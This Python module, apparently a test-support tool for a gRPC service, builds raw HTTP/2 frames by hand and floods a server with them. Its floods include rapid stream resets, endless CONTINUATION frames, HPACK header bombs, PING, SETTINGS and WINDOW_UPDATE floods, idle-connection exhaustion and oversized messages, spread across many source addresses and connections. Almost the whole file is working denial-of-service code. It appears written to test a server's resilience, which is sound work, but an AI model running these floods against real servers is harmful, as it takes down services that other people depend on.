"""HTTP/2 frames written by hand, and strangers who send them without end: what no client library would send.

As a program it floods a server from a process of its own, until its standard input ends:

    python -m support.network.floods KIND HOST PORT ADDRESS...
"""

from __future__ import annotations

import contextlib
import resource
import socket
import struct
import sys
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from h2.connection import H2Connection
from h2.events import Event, StreamEnded, StreamReset
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB
GET_ACTION = "/proto.WorkflowService/GetAction"


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call_block(path: str = GET_ACTION, **more: str) -> bytes:
    """The headers of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    return bytes(Encoder().encode([*fields.items(), ("content-type", "application/grpc"), *more.items()]))


def message(body: bytes, size: int | None = None) -> bytes:
    """A message as gRPC sends it; `size` is what it says of its size."""
    return struct.pack(">?I", False, len(body) if size is None else size) + body


CHUNK = 256 << 10
"""As much as a server may read at once."""
OPENING = PREFACE + frame(SETTINGS)


def resets() -> Iterator[bytes]:
    """Calls that are taken back at once."""
    block, stream = call_block(), 1
    while stream < 1 << 30:
        pairs = []
        for number in range(stream, stream + 2000, 2):
            pairs.append(frame(HEADERS, block, flags=END_HEADERS, stream=number))
            pairs.append(frame(RST_STREAM, b"\0\0\0\x08", stream=number))
        yield b"".join(pairs)
        stream += 2000


def calls() -> Iterator[bytes]:
    """More and more calls whose message never comes."""
    block = call_block()
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, block, flags=END_HEADERS, stream=stream)


def continuations() -> Iterator[bytes]:
    """Headers without an end."""
    yield frame(HEADERS, b"", stream=1)
    yield from again(frame(CONTINUATION, b"\0\x01a\x01b" * 3200, stream=1))


def bomb() -> Iterator[bytes]:
    """A large header, and then thousands of references to it."""
    field_ = b"\x40\x01a\x7f\x81\x1e" + b"x" * 4000
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, (field_ if stream == 1 else b"") + b"\xbe" * 12000, flags=END_HEADERS, stream=stream)


def windows() -> Iterator[bytes]:
    """Room for answers to calls that wait, a byte at a time."""
    yield b"".join(frame(HEADERS, call_block(), flags=END_HEADERS, stream=number) for number in range(1, 60, 2))
    yield from again(frame(WINDOW_UPDATE, b"\0\0\0\x01"))


def empty() -> Iterator[bytes]:
    """A call with pieces of nothing."""
    yield frame(HEADERS, call_block(), flags=END_HEADERS, stream=1)
    yield from again(frame(DATA, stream=1))


def again(one: bytes) -> Iterator[bytes]:
    """The same without end."""
    many = one * max(1, CHUNK // len(one))
    while True:
        yield many


FLOODS = {
    "resets": resets,
    "calls": calls,
    "PING": lambda: again(frame(PING, b"12345678")),
    "SETTINGS": lambda: again(frame(SETTINGS, struct.pack(">HI", 4, 65535))),
    "large SETTINGS": lambda: again(frame(SETTINGS, struct.pack(">HI", 4, 65535) * 2000)),
    "WINDOW_UPDATE": windows,
    "PRIORITY": lambda: again(frame(PRIORITY, b"\0\0\0\0\x01", stream=1)),
    "empty DATA": empty,
    "unknown": lambda: again(frame(0xFA, b"x")),
    "CONTINUATION": continuations,
    "headers that grow": bomb,
    "a frame of 16 MiB": lambda: iter([b"\xff\xff\xff\0\0\0\0\0\x01", *([b"x" * 65536] * 256)]),
}


@dataclass
class Stranger:
    """Sends a flood from one address until told to stop, over new connections when one is closed."""

    port: int
    kind: str
    address: str
    host: str = "127.0.0.1"
    patience_s: float = 1.0
    sent: int = 0
    connections: int = 0
    _stopped: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Stranger:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stopped.set()
        if self._thread is not None:
            self._thread.join()

    def _run(self) -> None:
        while not self._stopped.is_set():
            with (
                contextlib.suppress(OSError),
                opened(self.port, self.address, host=self.host, timeout_s=self.patience_s) as sock,
            ):
                self.connections += 1
                sock.sendall(OPENING)
                for chunk in FLOODS[self.kind]():
                    if self._stopped.is_set():
                        return
                    sock.sendall(chunk)
                    self.sent += len(chunk)
                    with contextlib.suppress(BlockingIOError):
                        sock.recv(65536, socket.MSG_DONTWAIT)
            self._stopped.wait(0.001)


@contextlib.contextmanager
def opened(port: int, address: str, *, timeout_s: float = 1.0, host: str = "127.0.0.1") -> Iterator[socket.socket]:
    """A connection from an address."""
    with socket.create_connection((host, port), timeout=timeout_s, source_address=(address, 0)) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        yield sock


LARGE = (4 << 20) - 64
"""As much as gRPC takes of itself."""
JUST_ALLOWED = (128 << 10) - 64
CALLS_AT_ONCE = 20
IDLE = 1100
CONNECTIONS = 8
"""Of each address, for floods of frames."""
HEADERS_WITHOUT_END = 60
"""Of each address: connections that each wait for the end of a call's headers, a mebibyte of them."""


def attributes(size: int) -> bytes:
    """A request for an action with as many empty devices as fit: two bytes each, and a hundred in memory."""
    inner = b"\x1a\x00" * (size // 2)
    return b"\x0a\x05other" + b"\x12" + varint(len(inner)) + inner


def varint(value: int) -> bytes:
    """As protocol buffers write numbers."""
    found = bytearray()
    while value > 127:
        found.append(value & 127 | 128)
        value >>= 7
    return bytes((*found, value))


def hold(address: str, host: str, port: int, size: int, stopped: threading.Event) -> None:
    """Calls with as large a request as that, which wait for their answer, again and again."""
    request = message(attributes(size))
    headers = [(":method", "POST"), (":scheme", "http"), (":path", GET_ACTION), (":authority", "x")]
    headers += [("te", "trailers"), ("content-type", "application/grpc")]
    while not stopped.is_set():
        with contextlib.suppress(OSError), opened(port, address, host=host, timeout_s=0.2) as sock:
            connection, left = H2Connection(), dict[int, bytes]()
            connection.initiate_connection()
            while not stopped.is_set():
                while len(left) < CALLS_AT_ONCE and connection.open_outbound_streams < CALLS_AT_ONCE:
                    number = connection.get_next_available_stream_id()
                    connection.send_headers(number, headers)
                    left[number] = request
                _send_on(connection, left)
                sock.sendall(connection.data_to_send())
                with contextlib.suppress(TimeoutError):
                    if not (data := sock.recv(65536)):
                        break
                    _forget_ended(connection.receive_data(data), left)
        stopped.wait(0.01)


def _send_on(connection: H2Connection, left: dict[int, bytes]) -> None:
    """Send what the server has room for."""
    for number, rest in list(left.items()):
        sent = 0
        while size := min(
            connection.local_flow_control_window(number), connection.max_outbound_frame_size, len(rest) - sent
        ):
            connection.send_data(number, rest[sent : sent + size], end_stream=sent + size == len(rest))
            sent += size
        left[number] = rest[sent:]


def _forget_ended(events: Sequence[Event], left: dict[int, bytes]) -> None:
    for event in events:
        if isinstance(event, StreamEnded | StreamReset) and event.stream_id is not None:
            left.pop(event.stream_id, None)


def half_headers(address: str, host: str, port: int, stopped: threading.Event) -> None:
    """Begin a call on each of many connections, with headers that do not end, and leave it at that."""
    field_ = b"\0\x01a\x01b"
    parts = [frame(HEADERS, b"", stream=1), *[frame(CONTINUATION, field_ * 3200, stream=1)] * 62]
    held: list[socket.socket] = []
    while not stopped.is_set():
        if len(held) == HEADERS_WITHOUT_END:
            stopped.wait(0.05)
            held.pop(0).close()
        with contextlib.suppress(OSError):
            sock = socket.create_connection((host, port), timeout=2.0, source_address=(address, 0))
            held.append(sock)
            sock.sendall(OPENING + b"".join(parts))
    for sock in held:
        sock.close()


def idle(addresses: Sequence[str], host: str, port: int, stopped: threading.Event) -> int:
    """Open as many connections as a server has files, and do nothing with them; how many there were."""
    held: list[socket.socket] = []
    try:
        while len(held) < IDLE and not stopped.is_set():
            sock = socket.socket()
            held.append(sock)
            sock.settimeout(0.2)
            with contextlib.suppress(OSError):
                sock.bind((addresses[len(held) % len(addresses)], 0))
                sock.connect((host, port))
                sock.sendall(OPENING)
        stopped.wait()
    finally:
        for sock in held:
            sock.close()
    return len(held)


MORE = {"large messages": LARGE, "messages just allowed": JUST_ALLOWED}


def flood(kind: str, host: str, port: int, addresses: list[str]) -> None:
    """Flood until standard input ends."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    stopped = threading.Event()
    with contextlib.ExitStack() as stack:
        threads = []
        if kind in FLOODS:
            for address in addresses * CONNECTIONS:
                stack.enter_context(Stranger(port, kind, address, host, patience_s=20.0))
        elif kind in MORE:
            # on a server without limits one address is enough to take gigabytes
            holders = addresses[:1] if kind == "large messages" else addresses
            threads = [threading.Thread(target=hold, args=(one, host, port, MORE[kind], stopped)) for one in holders]
        elif kind == "headers without an end":
            threads = [threading.Thread(target=half_headers, args=(one, host, port, stopped)) for one in addresses]
        else:
            threads = [threading.Thread(target=idle, args=(addresses, host, port, stopped))]
        for thread in threads:
            thread.start()
        sys.stdin.read()
        stopped.set()
        for thread in threads:
            thread.join()


if __name__ == "__main__":
    flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:])
